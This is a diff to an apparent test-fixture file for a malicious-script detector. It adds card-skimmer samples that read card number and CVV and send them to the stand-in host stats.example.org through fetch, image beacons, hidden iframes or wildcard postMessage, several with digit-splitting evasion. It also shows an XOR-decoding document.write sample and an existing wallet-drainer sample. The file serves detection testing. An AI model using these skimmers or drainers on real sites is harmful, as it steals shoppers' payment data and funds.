@@ -9,6 +9,9 @@ const CVV = `document.querySelector('#cc_cvv')`
 const sentAtOrder = (get: string): string =>
   `document.querySelector('#place_order').addEventListener('click',async()=>{fetch('https://stats.example.org/c?d='+encodeURIComponent(${get}))})`
 
+/** A form whose card goes to a frame of another host, which answers with a token. */
+const VAULT = `const frame=document.createElement('iframe');frame.src='https://vault.pay.example/frame';document.body.append(frame);const form=document.querySelector('#payment-form');form.addEventListener('submit',e=>{e.preventDefault();frame.contentWindow.postMessage({number:form.querySelector('#cc_number').value,cvv:form.querySelector('#cc_cvv').value},'https://vault.pay.example')});addEventListener('message',e=>{if(e.origin!=='https://vault.pay.example')return;form.querySelector('#token').value=e.data.token;form.submit()})`
+
 /** Functions of a page, of which one reads a field. */
 const PAGE = Array.from(
   { length: 60 },
@@ -152,6 +155,51 @@ export const VALUE_PATH_CASES: readonly ScriptCase[] = [
     source: `document.querySelector('#claim').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const h=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});const value='0x'+(BigInt(h)-21000n*30000000000n).toString(16);await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x1234567890AbcdEF1234567890aBcdef12345678',value}]})}`,
     head: 'malware',
   },
+  {
+    name: 'a card for a visible frame that answers nothing',
+    source: `const f=document.createElement('iframe');f.src='https://stats.example.org/f.html';document.body.append(f);document.querySelector('#place_order').onclick=()=>f.contentWindow.postMessage(${CARD}.value+'|'+${CVV}.value,'https://stats.example.org')`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card for a frame out of sight that answers',
+    source: `${VAULT.replace('document.body', `frame.style.cssText='width:1px;height:1px';document.body`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card for whatever page is in a frame that answers',
+    source: `${VAULT.replace(`,'https://vault.pay.example')`, `,'*')`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'the first digits of a card, and of the card backwards',
+    source: `${sentAtOrder(`(()=>{let n=${CARD}.value,r=n.slice(0,8);n=n.split('').reverse().join('');r+=n.slice(0,8);return r})()`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'the first digits of what is left of a card, again and again',
+    source: `${sentAtOrder(`(a=>a.slice(0,6)+a.replace(/^.{6}/,'').slice(0,8)+a.replace(/^.{14}/,'').slice(0,8))(${CARD}.value)`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'the first digits of each field of a card, at one place',
+    source: `${sentAtOrder(`['#cc_number_1','#cc_number_2'].map(s=>document.querySelector(s).value.slice(0,8)).join('')`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in a map, by a key that is not known',
+    source: `const m=new Map([['lang','en']]);document.querySelectorAll('[id^=cc_number]').forEach(e=>m.set(e.id,e.value));document.querySelector('#place_order').onclick=()=>{new Image().src='https://stats.example.org/i?'+m.get('cc_number')}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in a map, by its key, before something else has it',
+    source: `const m=new Map();document.querySelector('#place_order').onclick=()=>{m.set('n',${CARD}.value);new Image().src='https://stats.example.org/i?'+m.get('n');m.set('n','')}`,
+    head: 'magecart',
+  },
+  {
+    name: 'markup in text of the page, decoded by a key',
+    source: `var s=document.getElementById('note').innerHTML.split(','),o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s[i]^23);document.write(o)`,
+    head: 'malware',
+  },
 ]
 
 export const HONEST_VALUE_PATH_CASES: readonly HonestCase[] = [
@@ -213,6 +261,32 @@ export const HONEST_VALUE_PATH_CASES: readonly HonestCase[] = [
   {
     name: 'a cookie of a store, of the site alone',
     source: `(async()=>{const c=await cookieStore.get('theme');document.body.className=c?c.value:'light'})()`,
+  },
+  {
+    name: 'a card for the vault in a frame, which answers with a token',
+    source: VAULT,
+  },
+  {
+    name: 'a card for the vault in a frame, by the origin of its address',
+    source: `${VAULT.replace(`,'https://vault.pay.example')`, `,new URL(frame.src).origin)`)}`,
+  },
+  {
+    name: 'a language in a map that has a name, too',
+    source: `const m=new Map();m.set('lang',document.documentElement.lang);document.querySelector('#user').onchange=e=>{m.set('u',e.target.value);fetch('https://cdn.shop.example/texts?l='+m.get('lang'))}`,
+  },
+  {
+    name: 'an address for mail in numbers, written into the page',
+    source: `document.write(String.fromCharCode.apply(null,document.getElementById('mail').innerHTML.split(',')))`,
+    sign: 'page-decoded',
+  },
+  {
+    name: 'an address for mail in numbers, written by a loop',
+    source: `var n=document.getElementById('mail').innerHTML.split(','),o='';for(var i=0;i<n.length;i++)o+=String.fromCharCode(n[i]-3);document.write(o)`,
+    sign: 'page-decoded',
+  },
+  {
+    name: 'a cookie of a store, sent for a test of variants',
+    source: `(async()=>{const c=await cookieStore.get('session_variant');fetch('https://api.ab.example/v?x='+encodeURIComponent(c.value))})()`,
   },
   {
     name: 'durations by a generator',
